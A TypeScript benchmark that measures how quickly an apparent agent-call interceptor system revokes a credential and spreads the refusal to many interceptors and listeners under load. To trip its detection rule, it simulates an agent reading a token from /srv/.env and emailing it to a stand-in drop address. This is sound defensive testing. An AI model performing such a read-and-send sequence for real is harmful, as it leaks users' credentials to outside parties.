/**
 * From the call that completes a pattern to every interceptor refusing its credential, while 2,000 calls/s go through the
 * same installation. Each sample is a credential of its own that reads a secret, sends it out, and then calls on every few
 * ms, through a real interceptor over real HTTP; 50 real interceptors and then 1,000 connections that only listen hear of
 * it. On both logs. Prints a BenchResult for each as JSON. BENCH_LOG=embedded|kafka, BENCH_SAMPLES=n.
 */
import { type ChildProcess, fork } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { type CallStart, type ConnectedInterceptor, connectInterceptor } from "@tripline/interceptor";
import { type Installation, type LogKind, startInstallation } from "./installation.ts";
import { type BenchResult, type Figure, quantile } from "./result.ts";
import type { Heard } from "./revocation-listeners.ts";

const SAMPLES = Number(process.env.BENCH_SAMPLES ?? 300); // over a minute: the detector writes its state now and then
const WARM_UP = 10; // not counted: the first ones compile the code
const RATE = Number(process.env.BENCH_RATE ?? 2_000); // calls/s beside the samples
const BATCH_RECORDS = 10; // small, so that the load comes evenly
const SAMPLE_EVERY_MS = 200;
const LOOK_EVERY_MS = 1;
const GIVE_UP_MS = 10_000;
const INTERCEPTORS = 50;
const CONNECTIONS = 1_000;
const NOBODY = { session: undefined, agent: undefined, server: "", tool: "", principals: [] };
const RULE = "secret-read-then-sent";
const LOGS: readonly LogKind[] = ["embedded", "kafka"];

for (const kind of LOGS) {
  if (process.env.BENCH_LOG !== undefined && process.env.BENCH_LOG !== kind) continue;
  const folder = mkdtempSync(join(tmpdir(), "tripline-refusal-"));
  const data = join(folder, "data");
  mkdirSync(data, { mode: 0o700 });
  writeFileSync(
    join(data, "response.yaml"),
    `automatic_revocation:\n  limit: { keys: 1000, minutes: 1 }\n  rules:\n    ${RULE}: { enabled: true }\n`,
    { mode: 0o600 },
  );
  const installation = await startInstallation(kind, { data });
  try {
    await measure(installation, kind, folder);
  } finally {
    await installation.dispose();
    rmSync(folder, { recursive: true, force: true });
  }
}

interface Revoked {
  detectedMs: number;
  decidedMs: number;
  /** When each real interceptor applied it. */
  applied: number[];
  /** When the last of the connections had it. */
  lastHeard?: number;
}

async function measure({ server }: Installation, kind: LogKind, folder: string): Promise<void> {
  const enrol = async (body: object): Promise<string> => {
    const { key } = await server.json<{ key: string }>("/v1/producers", {
      method: "POST",
      body: JSON.stringify(body),
    });
    return key;
  };
  const all = Array.from({ length: 2 * (SAMPLES + WARM_UP) }, (_, n) => `local:victim-${n}`);
  const victims = await enrol({ id: "victims", issuers: ["local"], credentials: all });
  const background = await enrol({ id: "bench", issuers: ["local"], quota: 1_000_000 });
  const listening = await enrol({ id: "listeners", issuers: ["local"] });

  const revoked = new Map<string, Revoked>();
  const interceptors: ConnectedInterceptor[] = [];
  for (let n = 0; n < INTERCEPTORS; n += 1) {
    const interceptor = await connectInterceptor({
      url: server.url,
      ingestKey: n === 0 ? victims : listening,
      stateDir: join(folder, `interceptor-${n}`),
    });
    interceptor.denyList.onApplied(({ entry, atMs }) => {
      const known = revoked.get(entry.id) ?? {
        detectedMs: Date.parse(entry.detected_at ?? ""),
        decidedMs: Date.parse(entry.decided_at),
        applied: [],
      };
      known.applied.push(atMs);
      revoked.set(entry.id, known);
    });
    interceptors.push(interceptor);
  }
  while (interceptors.some(({ denyList }) => denyList.status() !== "fresh")) await delay(10);
  const [first] = interceptors;
  if (first === undefined) throw new Error("there is no interceptor");

  const load = fork(new URL("./pipeline-sender.ts", import.meta.url), [
    server.url,
    background,
    String((2 * (SAMPLES + WARM_UP) * SAMPLE_EVERY_MS + 3 * GIVE_UP_MS) / 1000),
    String(RATE),
    String(BATCH_RECORDS),
  ]);

  const half = SAMPLES + WARM_UP;
  const own = await samplesOf(first, all.slice(0, half));
  report(kind, `${INTERCEPTORS} interceptors`, [
    ...ownFigures(own),
    ...spread(
      `detection to all ${INTERCEPTORS} refusing`,
      [...revoked.values()].filter(({ applied }) => applied.length === INTERCEPTORS).slice(WARM_UP),
      ({ applied, detectedMs }) => Math.max(...applied) - detectedMs,
      { p50: 10, p99: 100 },
    ),
  ]);

  for (const interceptor of interceptors.slice(1)) await interceptor.close(0);
  revoked.clear();
  const listeners = await startListeners(server.url, listening, revoked);
  const many = await samplesOf(first, all.slice(half));
  await delay(1_000); // the last ones
  report(kind, `${CONNECTIONS} connections`, [
    ...ownFigures(many),
    ...spread(
      `detection to all ${CONNECTIONS} told`,
      [...revoked.values()].filter(({ lastHeard }) => lastHeard !== undefined).slice(WARM_UP),
      ({ lastHeard = Number.NaN, detectedMs }) => lastHeard - detectedMs,
      { p99: 250 },
    ),
  ]);
  listeners.send({ stop: true });
  load.kill();
  await first.close(0);
}

async function startListeners(
  url: string,
  key: string,
  revoked: Map<string, Revoked>,
): Promise<ChildProcess> {
  const child = fork(new URL("./revocation-listeners.ts", import.meta.url), [url, key, String(CONNECTIONS)]);
  await once(child, "message");
  child.on("message", ({ id, last }: Heard) => {
    const known = revoked.get(id);
    if (known !== undefined) known.lastHeard = last;
  });
  return child;
}

async function samplesOf(
  interceptor: ConnectedInterceptor,
  credentials: readonly string[],
): Promise<{ samples: number[]; missed: number }> {
  const samples: number[] = [];
  let missed = 0;
  const running: Promise<void>[] = [];
  for (const [n, credential] of credentials.entries()) {
    const sample = timeToRefusal(interceptor, credential).then((ms) => {
      if (n < WARM_UP) return;
      if (ms === null) missed += 1;
      else samples.push(ms);
    });
    running.push(sample);
    await delay(SAMPLE_EVERY_MS);
  }
  await Promise.all(running);
  return { samples, missed };
}

function ownFigures({ samples, missed }: { samples: number[]; missed: number }): Figure[] {
  return [
    { name: "samples", value: samples.length, unit: "" },
    { name: "never refused", value: missed, unit: "", goal: { at_most: 0 } },
    {
      name: "completing call to refusal p50",
      value: quantile(samples, 0.5),
      unit: "ms",
      goal: { at_most: 20 },
    },
    {
      name: "completing call to refusal p99",
      value: quantile(samples, 0.99),
      unit: "ms",
      goal: { at_most: 100 },
    },
    { name: "completing call to refusal, worst", value: Math.max(...samples), unit: "ms" },
  ];
}

function spread(
  name: string,
  revocations: readonly Revoked[],
  msOf: (revoked: Revoked) => number,
  goals: { p50?: number; p99: number },
): Figure[] {
  const samples = revocations.map(msOf);
  const { p50, p99 } = goals;
  return [
    { name: `${name}, revocations`, value: samples.length, unit: "" },
    {
      name: "of it detection to decision p50",
      value: quantile(
        revocations.map(({ decidedMs, detectedMs }) => decidedMs - detectedMs),
        0.5,
      ),
      unit: "ms",
    },
    {
      name: `${name} p50`,
      value: quantile(samples, 0.5),
      unit: "ms",
      ...(p50 === undefined ? {} : { goal: { at_most: p50 } }),
    },
    { name: `${name} p99`, value: quantile(samples, 0.99), unit: "ms", goal: { at_most: p99 } },
  ];
}

function report(kind: LogKind, what: string, figures: Figure[]): void {
  const result: BenchResult = { bench: `refusal at ${RATE} calls/s, ${kind}, ${what}`, figures };
  console.log(JSON.stringify(result));
}

async function timeToRefusal(interceptor: ConnectedInterceptor, credential: string): Promise<number | null> {
  const secret = `ghp_${Buffer.from(credential.padEnd(27, "x")).toString("hex").slice(0, 36)}`;
  const start = (server: string, tool: string, args: unknown): CallStart => ({
    caller: { credential, assurance: "verified" },
    session: { id: credential, source: "mcp" },
    target: { server, tool, transport: "in_process" },
    method: "tools/call",
    args,
  });
  call(interceptor, start("files", "read_file", { path: "/srv/.env" }), `GITHUB_TOKEN=${secret}`);
  const completed = performance.now();
  call(interceptor, start("mail", "send_email", { to: "drop@collector.example", body: secret }), "sent");
  while (performance.now() - completed < GIVE_UP_MS) {
    await delay(LOOK_EVERY_MS);
    if (interceptor.denyList.check({ ...NOBODY, credential }) === null) continue;
    if (!call(interceptor, start("files", "list_directory", { path: "/srv" }), "a b c"))
      return performance.now() - completed;
  }
  return null;
}

/** One call; false when it was refused. */
function call(interceptor: ConnectedInterceptor, start: CallStart, text: string): boolean {
  const verdict = interceptor.begin(start);
  if (verdict.kind === "deny") return false;
  verdict.call.end({ outcome: "ok", text, bytes: text.length, items: 1 });
  return true;
}
